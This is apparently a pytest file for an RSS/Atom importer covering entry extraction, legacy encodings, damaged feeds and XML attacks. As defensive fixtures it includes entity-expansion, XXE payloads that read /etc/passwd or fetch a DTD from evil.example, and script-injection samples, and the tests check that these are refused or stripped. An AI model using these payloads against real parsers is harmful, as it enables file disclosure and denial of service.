"""RSS and Atom: one article per entry, legacy encodings, damaged feeds, XML attacks."""

from __future__ import annotations

import time

import pytest
from samples import needs_samples, sample_bytes

from archivist.errors import CorruptDocumentError, EmptyDocumentError, HostileContentError
from archivist.importers import feed
from archivist.importers.registry import extract_document

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
  <title>City Herald &amp; Co</title>
  <link>https://herald.example.org/</link>
  <language>en-gb</language>
  <item>
    <title>Night buses for the north</title>
    <link>https://herald.example.org/night-buses</link>
    <pubDate>Tue, 04 May 2023 08:30:00 +0200</pubDate>
    <dc:creator>Jane Reporter</dc:creator>
    <description><![CDATA[<p>The council voted to <b>extend</b> the night bus network.</p>
      <script>alert("x")</script><p>Services start in March.</p>]]></description>
  </item>
  <item>
    <title>Bridge reopens</title>
    <link>https://herald.example.org/bridge</link>
    <pubDate>Wed, 05 May 2023 10:00:00 GMT</pubDate>
    <description>The old bridge reopened to traffic after two years of repairs.</description>
  </item>
  <item>
    <title>Title-only entry about the marathon route</title>
    <link>https://herald.example.org/marathon</link>
  </item>
</channel>
</rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Wire Service</title>
  <entry>
    <title type="html">Minister &lt;em&gt;resigns&lt;/em&gt;</title>
    <link href="https://wire.example.org/minister"/>
    <updated>2023-06-01T12:00:00+01:00</updated>
    <author><name>Desk Editor</name></author>
    <content type="html">&lt;p&gt;The minister resigned on Thursday after weeks of pressure.
      &lt;/p&gt;
      &lt;script&gt;document.location='http://evil.example'&lt;/script&gt;</content>
  </entry>
</feed>
"""


def test_one_document_per_entry_with_metadata() -> None:
    docs = feed.extract(RSS.encode(), "herald.rss")
    assert [d.title for d in docs] == [
        "Night buses for the north",
        "Bridge reopens",
        "Title-only entry about the marathon route",
    ]
    first = docs[0]
    assert first.url == "https://herald.example.org/night-buses"
    assert first.published == "2023-05-04T08:30:00+02:00"
    assert first.author == "Jane Reporter"
    assert first.source == "City Herald & Co"
    assert (
        first.text
        == "The council voted to extend the night bus network.\n\nServices start in March."
    )
    assert docs[1].published == "2023-05-05T10:00:00+00:00"


def test_entry_without_text_uses_its_title() -> None:
    docs = feed.extract(RSS.encode(), "herald.rss")
    assert docs[2].text == "Title-only entry about the marathon route"


def test_atom_html_content_is_plain_and_script_free() -> None:
    [doc] = feed.extract(ATOM.encode(), "wire.atom")
    assert doc.title == "Minister resigns"
    assert doc.text == "The minister resigned on Thursday after weeks of pressure."
    assert doc.author == "Desk Editor"
    assert doc.published == "2023-06-01T12:00:00+01:00"
    assert doc.source == "Wire Service"


def test_rss_1_rdf_feed() -> None:
    rdf = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
  <channel rdf:about="https://x.example/"><title>RDF News</title></channel>
  <item rdf:about="https://x.example/1"><title>First</title><link>https://x.example/1</link>
    <description>An item in an RSS 1.0 feed, with a sentence of text.</description></item>
</rdf:RDF>"""
    [doc] = feed.extract(rdf, "news.rdf")
    assert doc.title == "First"
    assert doc.source == "RDF News"


@pytest.mark.parametrize(
    ("codec", "words"),
    [
        ("cp1255", "ראש הממשלה הודיע היום על צעדים חדשים להתמודדות עם יוקר המחיה"),
        ("koi8-r", "Президент заявил, что в стране наведён порядок после беспорядков"),
        ("cp1251", "Президент заявил, что в стране наведён порядок после беспорядков"),
        ("gb18030", "国务院总理今天主持召开国务院常务会议，部署稳定经济增长的措施"),
    ],
)
def test_undeclared_legacy_encodings(codec: str, words: str) -> None:
    data = (
        f"<rss><channel><title>Feed</title><item><title>{words[:20]}</title>"
        f"<description>{words}. {words}.</description></item></channel></rss>"
    ).encode(codec)
    [doc] = feed.extract(data, "feed.xml")
    assert words in doc.text


def test_gb2312_declaration_with_gbk_characters() -> None:
    words = "朱镕基曾任国务院总理，主持经济改革。"  # 镕 is not in GB2312
    data = (
        '<?xml version="1.0" encoding="gb2312"?><rss><channel><title>新闻</title>'
        f"<item><title>标题</title><description>{words}</description></item></channel></rss>"
    ).encode("gb18030")
    [doc] = feed.extract(data, "feed.xml")
    assert doc.text == words
    assert doc.source == "新闻"


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
    ],
)
def test_entity_declarations_are_refused(prolog: str) -> None:
    body = "<rss><channel><item><title>&b;</title></item></channel></rss>"
    data = f'<?xml version="1.0"?>{prolog}{body}'
    with pytest.raises(HostileContentError, match="XML entity declarations are not allowed"):
        feed.extract(data.encode(), "evil.xml")


def test_netscape_rss_091_doctype_is_fine() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title>
<item><title>Caf&eacute; opens</title><description>A caf&eacute; opened.</description></item>
</channel></rss>"""
    [doc] = feed.extract(data, "old.rss")
    assert doc.title == "Café opens"


def test_truncated_feed_keeps_complete_entries() -> None:
    cut = RSS[: RSS.index("<title>Title-only")]
    docs = feed.extract(cut.encode(), "cut.rss")
    assert [d.title for d in docs][:2] == ["Night buses for the north", "Bridge reopens"]


def test_feed_without_entries_is_empty() -> None:
    data = b'<?xml version="1.0"?><rss version="2.0"><channel><title>Quiet</title></channel></rss>'
    with pytest.raises(EmptyDocumentError, match="no entries"):
        feed.extract(data, "quiet.rss")


def test_unterminated_cdata_ends_quickly() -> None:
    data = b'<?xml version="1.0"?><rss><channel><title>x</title><item><title><![CDATA[never'
    started = time.perf_counter()
    with pytest.raises(CorruptDocumentError, match="no entries could be recovered"):
        feed.extract(data, "cdata.xml")
    assert time.perf_counter() - started < 5


# --- the shared samples ---------------------------------------------------------------------


def _load(relative: str) -> list[feed.ExtractedDocument]:
    fmt, docs = extract_document(sample_bytes(relative), relative.rsplit("/", 1)[-1])
    assert fmt == "feed"
    return docs


@needs_samples
def test_koi8_r_news_feed() -> None:
    docs = _load("feeds/chardet_newsru.com.koi8-r.xml")
    assert len(docs) == 30
    assert docs[0].source == "NEWSru.com"
    assert docs[0].title is not None and "Минюста" in docs[0].title
    assert docs[0].published == "2006-01-03T19:57:00+03:00"
    assert all(d.url and d.url.startswith("http://www.newsru.com/") for d in docs)
    assert {d.language for d in docs} == {"ru"}


@needs_samples
def test_gb2312_feed_with_wrong_language_declared() -> None:
    docs = _load("feeds/chardet_acnnewswire.gb2312.xml")
    assert len(docs) == 8
    assert "中国银联" in docs[0].title
    assert docs[0].language == "zh"  # the feed claims "en"


@needs_samples
def test_undeclared_windows_1255_feed() -> None:
    [doc] = _load("feeds/feedparser_windows1255_undeclared.xml")
    assert "העתק נאמן למקור" in doc.text
    assert doc.language == "he"
    assert doc.title  # derived from the text: the entry has none


@needs_samples
def test_reddit_atom_feed() -> None:
    docs = _load("feeds/feedrs_atom_mediarss_reddit_1.xml")
    assert len(docs) == 25
    assert docs[0].title == "Any reason to keep 1G connections to my servers?"
    assert "<" not in docs[0].text


@needs_samples
@pytest.mark.parametrize(
    ("relative", "source"),
    [
        ("feeds/feedrs_rss_2.0_ilgiornale.xml", "Il Giornale - Cronache"),
        ("feeds/feedrs_rss_2.0_ilmessaggero.xml", "ilmessaggero.it - mondo"),
        ("feeds/feedrs_rss_2.0_nbcny.xml", "NBC New York"),
    ],
)
def test_small_rss_samples(relative: str, source: str) -> None:
    [doc] = _load(relative)
    assert doc.source == source
    assert doc.title and doc.text and doc.url


@needs_samples
def test_script_in_entry_content_sample() -> None:
    [doc] = _load("hostile/feedparser_entry_content_script.xml")
    assert doc.text == "safe description"


def test_entity_declarations_after_a_comment_with_markup_are_refused() -> None:
    data = (
        b'<?xml version="1.0"?><!-- see <a href="x">this</a> -->'
        b'<!DOCTYPE rss [<!ENTITY a "aaaa">]><rss><channel><item><title>&a;</title>'
        b"</item></channel></rss>"
    )
    with pytest.raises(HostileContentError):
        feed.extract(data, "sneaky.xml")


@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_feed_after_a_long_leading_comment_is_read_as_a_feed(codec: str) -> None:
    licence = "<!-- " + "Licensed under the terms of the agreement. " * 400 + "-->\n"
    data = RSS.replace(
        '<?xml version="1.0" encoding="utf-8"?>',
        f'<?xml version="1.0" encoding="{codec}"?>\n{licence}<!DOCTYPE rss>',
        1,
    ).encode(codec)
    assert len(data) > 16_000  # the root element is far beyond the sniffer's first look
    fmt, documents = extract_document(data, "licensed.xml")
    assert fmt == "feed"
    assert [d.title for d in documents][:2] == ["Night buses for the north", "Bridge reopens"]
    assert not any("<rss" in d.text or "Licensed" in d.text for d in documents)


def test_entity_declarations_after_a_long_comment_are_refused() -> None:
    data = (
        '<?xml version="1.0"?><!-- ' + "x" * 20_000 + " -->"
        '<!DOCTYPE rss [<!ENTITY a "aaaa">]><rss><channel><item><title>&a;</title>'
        "</item></channel></rss>"
    ).encode()
    with pytest.raises(HostileContentError):
        extract_document(data, "sneaky.xml")
